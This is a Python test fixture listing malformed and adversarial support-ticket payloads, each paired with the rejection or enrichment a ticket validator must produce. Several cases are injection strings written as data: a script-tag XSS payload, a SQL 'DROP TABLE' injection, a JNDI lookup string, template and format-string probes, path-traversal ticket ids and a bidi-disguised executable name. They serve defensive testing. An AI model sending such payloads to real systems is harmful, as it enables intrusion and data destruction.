"""A fixed corpus of bad and strange tickets, as the bytes that would land in S3, each with
what must become of it: an enrichment, or a rejection naming a field (and words of the reason).

`CORPUS` is every case; `EMULATOR_CORPUS` the smaller set sent through the worker and the
emulator (the rest runs against validate_ticket and the Enricher directly, which is faster
and exercises the same code)."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Case:
    name: str
    raw: bytes
    field: str | None = None  # None: must be enriched; else the rejection's field
    reason: str = ""  # words the rejection's reason must contain
    direct: bool = False  # also sent as an SQS message body in the emulator run

    @property
    def rejected(self) -> bool:
        return self.field is not None


def doc(ticket_id: Any = "C-1", body: Any = "My invoice shows the wrong amount, please fix it.", **fields: Any) -> dict:
    return {"ticket_id": ticket_id, "subject": "Invoice question", "body": body, **fields}


def j(document: Any, ascii_only: bool = False) -> bytes:
    return json.dumps(document, ensure_ascii=ascii_only).encode("utf-8")


MB = 1024 * 1024
RTL = "مرحبا، تم خصم المبلغ مرتين من بطاقتي ولم يصلني أي رد. שלום, החשבון שלי ננעל ואני לא מצליח להתחבר."
MIXED = "Login broken 登录失败 не могу войти लॉगिन नहीं हो रहा ログインできません. Please help!"

CORPUS: list[Case] = [
    # invalid JSON
    Case("truncated", b'{"ticket_id": "C-1", "body": "half', "ticket", "not valid JSON", direct=True),
    Case("trailing-comma", b'{"ticket_id": "C-1", "body": "x",}', "ticket", "not valid JSON"),
    Case("single-quotes", b"{'ticket_id': 'C-1', 'body': 'x'}", "ticket", "not valid JSON", direct=True),
    Case("plain-text", b"my printer is on fire", "ticket", "not valid JSON", direct=True),
    Case("empty-file", b"", "ticket", "not valid JSON"),
    Case("whitespace-file", b"   \n\t ", "ticket", "not valid JSON"),
    Case("utf8-bom", b"\xef\xbb\xbf" + j(doc()), "ticket", "BOM"),
    Case("raw-nul-byte", b'{"ticket_id": "C-1",\x00 "body": "x"}', "ticket", "not valid JSON"),
    Case("json-null", b"null", "ticket", "JSON object"),
    Case("json-array", j([doc()]), "ticket", "JSON object", direct=True),
    Case("json-number", b"42", "ticket", "JSON object"),
    Case("json-string", b'"a ticket"', "ticket", "JSON object"),
    Case("nan", b'{"ticket_id": "C-1", "body": "x", "metadata": {"v": NaN}}', "ticket", "NaN"),
    # wrong types
    Case("body-number", j(doc(body=42)), "body", "valid string", direct=True),
    Case("body-list", j(doc(body=["a", "b"])), "body", "valid string"),
    Case("subject-object", j(doc(subject={"text": "hi"})), "subject", "valid string"),
    Case("id-number", j(doc(ticket_id=12345)), "ticket_id", "valid string"),
    Case("id-null", j(doc(ticket_id=None)), "ticket_id", "valid string"),
    Case("priority-number", j(doc(priority=1)), "priority", "valid string"),
    Case("created-at-object", j(doc(created_at={"day": 1})), "created_at", "valid string"),
    Case("metadata-list", j(doc(metadata=["email"])), "metadata", "valid dictionary"),
    Case("tags-string", j(doc(metadata={"tags": "a,b"})), "metadata.tags", "valid list"),
    Case("unknown-priority", j(doc(priority="whenever")), "priority", "unknown priority"),
    # missing fields
    Case("no-ticket-id", j({"subject": "Help", "body": "It broke."}), "ticket_id", "required", direct=True),
    Case("only-ticket-id", j({"ticket_id": "C-1"}), "body", "no text"),
    Case("empty-subject-and-body", j(doc(body="", subject="")), "body", "no text"),
    Case("whitespace-subject-and-body", j(doc(body=" \n\t\u00a0 ", subject="  ")), "body", "no text"),
    Case("empty-object", b"{}", "ticket_id", "required"),
    Case("chat-without-subject", j({"ticket_id": "C-CHAT", "body": "hi, my order never came"})),
    Case("subject-only", j({"ticket_id": "C-SUBJ", "subject": "Refund request for order 1234"})),
    # sizes
    Case("body-1mb", j(doc(body="refund " * (MB // 7))), "ticket", "limit"),
    Case("body-just-over-char-cap", j(doc(body="x" * 100_001)), "body", "at most 100000"),
    Case("body-99k-words", j(doc("C-BIG", body="The export keeps failing. " * 3_800))),
    Case("subject-too-long", j(doc(subject="s" * 1_001)), "subject", "at most 1000"),
    # encodings and control characters
    Case("invalid-utf8", b'{"ticket_id": "C-1", "body": "caf\xe9"}', "ticket", "not valid UTF-8"),
    Case("utf16-encoded", json.dumps(doc()).encode("utf-16"), "ticket", "not valid UTF-8"),
    Case("cesu-surrogate-bytes", b'{"ticket_id": "C-1", "body": "\xed\xa0\x80"}', "ticket", "not valid UTF-8"),
    Case("escaped-lone-surrogate", b'{"ticket_id": "C-1", "body": "x \\ud800 y"}', "body", "unicode string"),
    Case("nul-escape-in-body", j(doc(body="before\u0000after")), "body", "NUL"),
    Case("nul-escape-in-subject", j(doc(subject="a\u0000b")), "subject", "NUL"),
    Case("control-characters", j(doc("C-CTRL", body="line\u0007one\u001b[31m red \u0008\u000c text with the bill"))),
    # markup and scripts
    Case("html-and-script", j(doc("C-HTML", body="<script>alert('x')</script><img src=x onerror=alert(1)>"
                                              "<b>My account</b> was charged twice.")), direct=True),
    Case("sql-and-template", j(doc("C-SQL", body="'; DROP TABLE tickets; -- {{7*7}} ${jndi:ldap://x/a} %s%n"))),
    Case("right-to-left", j(doc("C-RTL", subject="مشكلة في الفاتورة", body=RTL)), direct=True),
    Case("rtl-override-chars", j(doc("C-BIDI", body="Invoice \u202egnp.exe\u202c attached \u2066x\u2069"))),
    Case("mixed-scripts", j(doc("C-MIX", body=MIXED))),
    Case("combining-marks", j(doc("C-ZALGO", body="h\u0301\u0302\u0303e\u0304\u0305lp " * 400))),
    Case("emoji-only", j(doc("C-EMOJI", subject="😡😡😡", body="💳💸❌🔁 👩‍👩‍👧‍👦 🇩🇪🇯🇵 🏳️‍🌈")), direct=True),
    Case("emoji-ascii-escaped", j(doc("C-EMOJI2", body="refund please 🙏 " * 20), ascii_only=True)),
    Case("zero-width", j(doc("C-ZW", body="pass\u200bword re\u200dset fa\ufeffils"))),
    # extremely long single words
    Case("one-word-99k", j(doc("C-WORD", body="a" * 99_000))),
    Case("one-url-50k", j(doc("C-URL", body="https://example.com/?" + "q=1&" * 12_500))),
    Case("base64-blob", j(doc("C-B64", body="data:image/png;base64," + "iVBORw0KGgo" * 8_000))),
    Case("cjk-no-spaces", j(doc("C-CJK", body="登录失败请帮助" * 5_000))),
    # ticket ids with path characters
    Case("id-dot-dot-slash", j(doc(ticket_id="../../etc/passwd")), "ticket_id", "pattern", direct=True),
    Case("id-slash", j(doc(ticket_id="a/b")), "ticket_id", "pattern"),
    Case("id-backslash", j(doc(ticket_id="C:\\Windows\\x")), "ticket_id", "pattern"),
    Case("id-dot-dot", j(doc(ticket_id="..")), "ticket_id", "pattern"),
    Case("id-percent", j(doc(ticket_id="%2e%2e%2fx")), "ticket_id", "pattern"),
    Case("id-space", j(doc(ticket_id="C 1")), "ticket_id", "pattern"),
    Case("id-newline", j(doc(ticket_id="C-1\n")), "ticket_id", "pattern"),
    Case("id-empty", j(doc(ticket_id="")), "ticket_id", "pattern"),
    Case("id-cyrillic", j(doc(ticket_id="С-1")), "ticket_id", "pattern"),
    Case("id-too-long", j(doc(ticket_id="C" * 129)), "ticket_id", "pattern"),
    Case("id-dots-inside", j(doc(ticket_id="C-1..2:x_y"))),
    Case("id-lone-surrogate", b'{"ticket_id": "C-\\ud800", "body": "x"}', "ticket_id", "unicode string"),
    # metadata
    Case("metadata-9kb", j(doc(metadata={"blob": ["x" * 150] * 60})), "metadata", "larger than"),
    Case("metadata-51-tags", j(doc(metadata={"tags": ["t"] * 51})), "metadata.tags", "at most 50"),
    Case("metadata-nested-20", j(doc(metadata={"a": json.loads("[" * 20 + "]" * 20)})), "metadata", "levels deep"),
    Case("metadata-long-string", j(doc(metadata={"source": "s" * 201})), "metadata.source", "at most 200"),
    Case("metadata-many-small-keys", j(doc("C-META", metadata={f"k{i}": i for i in range(400)}))),
    Case("metadata-with-nul", j(doc("C-METANUL", metadata={"source": "e\u0000mail"}))),
    # well-formed but unusual
    Case("duplicate-keys", b'{"ticket_id": "C-DUPKEY", "ticket_id": "C-DUPKEY2", "body": "I was charged twice."}'),
    Case("unknown-fields", j(doc("C-EXTRA", attachments=[{"name": "a.pdf"}], __proto__={"x": 1}))),
    Case("priority-alias", j(doc("C-P1", priority=" P1 "))),
]

EMULATOR_NAMES = {
    "truncated", "empty-file", "utf8-bom", "json-array", "body-number", "no-ticket-id", "only-ticket-id",
    "body-1mb", "invalid-utf8", "nul-escape-in-body", "html-and-script", "right-to-left", "mixed-scripts",
    "emoji-only", "one-word-99k", "id-dot-dot-slash", "id-percent", "metadata-9kb", "metadata-nested-20",
    "duplicate-keys", "chat-without-subject", "nan",
}
EMULATOR_CORPUS = [case for case in CORPUS if case.name in EMULATOR_NAMES or case.direct]
